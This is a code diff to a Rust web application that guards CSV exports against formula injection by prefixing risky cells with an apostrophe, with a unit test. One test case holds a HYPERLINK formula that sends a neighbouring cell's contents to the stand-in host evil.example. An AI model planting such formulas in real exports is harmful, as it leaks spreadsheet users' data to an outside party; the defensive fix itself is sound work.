@@ -1147,7 +1147,18 @@ pub fn history_csv(
     )
 }
 
-/// Rows under a header as a CSV download named `name.csv`.
+/// A cell as a spreadsheet may read it without running it: text that starts like a
+/// formula (`=`, `+`, `-`, `@`, a tab or a carriage return) gets a leading apostrophe,
+/// which spreadsheets show as text. Any name or comment typed by someone else reaches
+/// the admin's spreadsheet through these exports.
+fn spreadsheet_safe(cell: &str) -> String {
+    match cell.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{cell}"),
+        _ => cell.to_string(),
+    }
+}
+
+/// Rows under a header as a CSV download named `name.csv`, every cell spreadsheet-safe.
 pub fn csv_download(
     name: &str,
     header: &[&str],
@@ -1157,7 +1168,7 @@ pub fn csv_download(
         let mut w = csv::Writer::from_writer(Vec::new());
         w.write_record(header)?;
         for row in rows {
-            w.write_record(row)?;
+            w.write_record(row.iter().map(|cell| spreadsheet_safe(cell)))?;
         }
         w.into_inner().map_err(|e| e.into_error().into())
     };
@@ -1211,5 +1222,28 @@ pub async fn history_export(
             }),
         ),
         Err(_) => super::not_found(&web, &ctx),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    #[test]
+    fn formulas_reach_spreadsheets_as_text() {
+        for (cell, safe) in [
+            (
+                "=HYPERLINK(\"http://evil.example/?\"&A2,\"Cliquez\")",
+                "'=HYPERLINK(\"http://evil.example/?\"&A2,\"Cliquez\")",
+            ),
+            ("+1+1", "'+1+1"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "'\r=1"),
+            ("Voirie", "Voirie"),
+            ("12", "12"),
+            ("", ""),
+        ] {
+            assert_eq!(super::spreadsheet_safe(cell), safe, "{cell:?}");
+        }
     }
 }
